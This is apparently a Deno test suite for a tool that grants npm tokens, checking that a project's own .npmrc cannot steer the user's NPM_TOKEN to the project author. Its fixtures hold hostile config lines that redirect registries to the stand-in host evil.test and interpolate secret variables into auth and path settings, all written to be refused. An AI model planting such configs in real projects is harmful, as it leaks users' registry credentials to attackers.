import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import { systemClock } from "$core/clock.ts";
import { MoatError } from "$core/errors.ts";
import { CANARY } from "../../tests/support/canary.ts";
import { testUnless } from "../../tests/support/conditional.ts";
import { SYSTEM_PATH, which } from "../../tests/support/run.ts";
import { tempHome } from "../../tests/support/temp_home.ts";
import {
  declaredBy,
  type GrantWish,
  grantWith,
} from "../../tests/support/token_vendor.ts";
import { createNpmProvider } from "./mod.ts";
import { systemNpm } from "./npm_config.ts";

const noNpm = which("npm") ? undefined : "needs npm";

/** A project that someone else wrote, and where it is granted. */
interface HostileWish extends GrantWish {
  /** Files of the project. */
  readonly files: Readonly<Record<string, string>>;
  /** The user's own `.npmrc`. Default: none. */
  readonly npmrc?: string;
}

/** As `moat grant npm` in the project, with the npm of this machine; `~` in the environment is the home. */
async function granted({ files, npmrc, env = {}, ...wish }: HostileWish) {
  await using home = await tempHome();
  const project = join(home.directory, "project");
  const all = { "project/package.json": "{}", ...npmrc && { ".npmrc": npmrc } };
  for (const [name, text] of Object.entries(files)) {
    Object.assign(all, { [`project/${name}`]: text });
  }
  for (const [name, text] of Object.entries(all)) {
    await Deno.mkdir(dirname(join(home.directory, name)), { recursive: true });
    await Deno.writeTextFile(join(home.directory, name), text);
  }
  const full = {
    PATH: SYSTEM_PATH,
    HOME: home.directory,
    NPM_TOKEN: CANARY,
    OTHER: CANARY,
  };
  const own = Object.entries(env).map(([name, value]) =>
    [name, value.replace("~", home.directory)] as const
  );
  return await grantWith((platform) => {
    const { env } = platform;
    const npm = systemNpm({ clock: systemClock, env });
    return createNpmProvider(platform, {
      run: (args, directory) =>
        inDirectory(directory ?? project, () => npm.run(args)),
    });
  }, { ...wish, env: { ...full, ...Object.fromEntries(own) } });
}

/** A program is started before this returns, in that directory. */
function inDirectory<T>(directory: string, start: () => T): T {
  const before = Deno.cwd();
  Deno.chdir(directory);
  try {
    return start();
  } finally {
    Deno.chdir(before);
  }
}

/** Where which credential would go; the code of a refusal. */
async function outcome(wish: HostileWish): Promise<string[]> {
  try {
    const { provider, grant } = await granted(wish);
    return declaredBy(provider, grant).injections
      .map(({ host, value }) => `${host} ${value}`);
  } catch (error) {
    assert.ok(error instanceof MoatError, String(error));
    return [error.code];
  }
}

const EVIL =
  "registry=https://evil.test/\n//evil.test/:_authToken=${OTHER}\n//evil.test/${OTHER}/:_authToken=x\n";

const HOSTILE: { name: string; wish: HostileWish }[] = [
  {
    name: "names its own file as the user's",
    wish: {
      files: { ".npmrc": "userconfig=./evil.npmrc\n", "evil.npmrc": EVIL },
    },
  },
  {
    name: "names its own file as that of all users",
    wish: {
      files: { ".npmrc": "globalconfig=./evil.npmrc\n", "evil.npmrc": EVIL },
    },
  },
  {
    name: "names itself as npm's prefix",
    wish: { files: { ".npmrc": "prefix=.\n", "etc/npmrc": EVIL } },
  },
  {
    name: "wants to be global, with itself as the prefix",
    wish: {
      files: {
        ".npmrc": "global=true\nprefix=.\n",
        "etc/npmrc": EVIL,
      },
    },
  },
  {
    name: "names its own file by way of npm's variables",
    wish: {
      files: { "evil.npmrc": EVIL },
      env: {
        npm_command: "run-script",
        npm_config_userconfig: "~/project/evil.npmrc",
      },
    },
  },
  {
    name: "names its registry by way of npm's variables",
    wish: {
      files: {},
      env: {
        npm_lifecycle_event: "x",
        npm_config_registry: "https://evil.test/",
      },
    },
  },
  {
    name: "makes the registry a list",
    wish: {
      files: {
        ".npmrc":
          "registry[]=https://evil.test/\n@a:registry=https://evil.test/\n",
      },
    },
  },
  {
    name: "makes the registry a list, and so does the user",
    wish: {
      npmrc: "registry[]=https://mine.test/\n",
      files: { ".npmrc": "@a:registry=https://evil.test/\n" },
    },
  },
  {
    name: "has the default registry in one file",
    wish: { files: { ".npmrc": "registry=https://evil.test/\n" } },
  },
  {
    name: "writes a variable into the registry's path",
    wish: { files: { ".npmrc": "registry=https://evil.test/${OTHER}/\n" } },
  },
  {
    name: "writes a variable into the path of a scope's registry",
    wish: { files: { ".npmrc": "@a:registry=https://evil.test/${OTHER}/\n" } },
  },
];

for (const { name, wish } of HOSTILE) {
  testUnless(
    noNpm,
    `npm: no secret goes to the author of a project that ${name}`,
    async () => {
      const evil = (await outcome(wish)).filter((put) => /evil/.test(put));
      assert.deepEqual(evil, []);
    },
  );
  testUnless(
    noNpm,
    `npm: no variable is in the settings for a project that ${name}`,
    async () => {
      // What is refused has no settings.
      const settings = await granted(wish)
        .then(({ grant }) => JSON.stringify(grant.settings), () => "");
      assert.ok(!settings.includes(CANARY));
    },
  );
}

const MINE = "registry=https://mine.test/\n";

const HONEST: { name: string; wish: HostileWish; outcome: string[] }[] = [
  {
    name: "NPM_TOKEN goes to the user's registry beside a project's scope",
    wish: {
      npmrc: MINE,
      files: { ".npmrc": "@a:registry=https://a.test/\n" },
    },
    outcome: [`mine.test Bearer ${CANARY}`],
  },
  {
    name: "NPM_TOKEN goes to the user's registry that the project names, too",
    wish: { npmrc: MINE, files: { ".npmrc": MINE } },
    outcome: [`mine.test Bearer ${CANARY}`],
  },
  {
    name: "NPM_TOKEN goes to no other registry of a project",
    wish: {
      npmrc: MINE,
      files: { ".npmrc": "registry=https://other.test/\n" },
    },
    outcome: ["registry-of-project"],
  },
  {
    name: "a list is no default registry",
    wish: { npmrc: "registry[]=https://mine.test/\n", files: {} },
    outcome: ["no-registry"],
  },
  {
    name: "a variable of the user names the default registry",
    wish: {
      files: { ".npmrc": "registry=https://other.test/\n" },
      env: { NPM_CONFIG_REGISTRY: "https://mine.test/" },
    },
    outcome: [`mine.test Bearer ${CANARY}`],
  },
  {
    name: "a variable of the user names the user's file",
    wish: {
      files: { "ci.npmrc": "//mine.test/:_authToken=${OTHER}\n" },
      env: { NPM_CONFIG_USERCONFIG: "~/project/ci.npmrc" },
    },
    outcome: [`mine.test Bearer ${CANARY}`],
  },
];

for (const { name, wish, outcome: wanted } of HONEST) {
  testUnless(noNpm, `npm: ${name}`, async () => {
    assert.deepEqual(await outcome(wish), wanted);
  });
}
